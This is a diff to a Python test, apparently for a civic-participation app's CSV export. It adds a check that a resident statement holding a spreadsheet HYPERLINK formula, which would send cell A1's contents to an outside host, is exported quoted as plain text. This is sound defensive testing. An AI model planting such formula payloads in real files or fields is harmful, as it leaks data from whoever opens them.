@@ -339,6 +339,11 @@ def test_import_export_import_gives_the_same_groups(
         _upload(client, project, _files())
     background.run_held()
     first = _groups(project)
+    # A resident's statement that a spreadsheet would run as a formula.
+    formula = '=HYPERLINK("https://example.org/?"&A1;"Mehr lesen")'
+    Statement.objects.filter(
+        pk=Statement.objects.filter(project=project).order_by("pk")[0].pk
+    ).update(text=formula)
 
     response = client.get(_url("export", project))
     assert response.status_code == 200
@@ -354,6 +359,10 @@ def test_import_export_import_gives_the_same_groups(
             "participants-votes.csv",
         }
         summary = exported.read("summary.csv").decode()
+        comments = exported.read("comments.csv").decode()
+    # Opened in a spreadsheet, the statement is text; imported again, it is what was written.
+    quoted = "'" + formula.replace('"', '""')
+    assert f',"{quoted}"' in comments
     assert "vote-convention,agree=+1;disagree=-1;pass=0;format=polis-export/1" in summary
 
     again = ProjectFactory(municipality=project.municipality, phase=PhaseKind.DIALOGUE)
